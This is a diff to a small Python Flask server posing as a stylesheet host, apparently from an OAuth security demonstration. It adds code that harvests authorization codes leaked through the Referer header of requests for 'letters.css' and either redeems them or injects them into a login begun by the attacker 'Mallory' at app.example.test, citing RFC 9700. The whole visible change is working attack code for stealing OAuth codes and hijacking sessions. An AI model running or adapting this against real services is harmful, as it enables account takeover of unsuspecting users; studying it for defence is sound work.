@@ -4,7 +4,7 @@ It uses what reaches this very server, and nothing else: no key log, no token, n
 """
 
 from html.parser import HTMLParser
-from urllib.parse import parse_qs, urlsplit
+from urllib.parse import parse_qs, urlencode, urlsplit
 
 import requests
 from flask import Flask, redirect, request
@@ -20,10 +20,22 @@ STYLE = "body { font-family: serif }\n", {"Content-Type": "text/css"}
 @fonts.get("/letters.css")
 def letters():
     """The page that asks tells its address, code included (RFC 9700 §4.2). Its script waits until it has the style."""
-    code = parse_qs(urlsplit(request.headers.get("Referer", "")).query).get("code")
+    page = urlsplit(request.headers.get("Referer", ""))
+    code = parse_qs(page.query).get("code")
     if code:
-        redeem(code[0])
+        (inject if page.hostname == "app.example.test" else redeem)(code[0])
     return STYLE
+
+
+def inject(code):
+    """The code to the only one who can redeem it, as the end of a login that Mallory has begun: RFC 9700 §4.5."""
+    with requests.Session() as mine:
+        mine.headers["User-Agent"] = "a browser of Mallory's"
+        away = mine.get("https://app.example.test/login", allow_redirects=False, timeout=10)
+        state = parse_qs(urlsplit(away.headers["Location"]).query)["state"][0]
+        answer = urlencode({"code": code, "state": state})
+        told = mine.get(f"https://app.example.test/finish?{answer}", timeout=10)
+    print(f"injected code: {told.status_code} {told.text}", flush=True)
 
 
 def redeem(code):
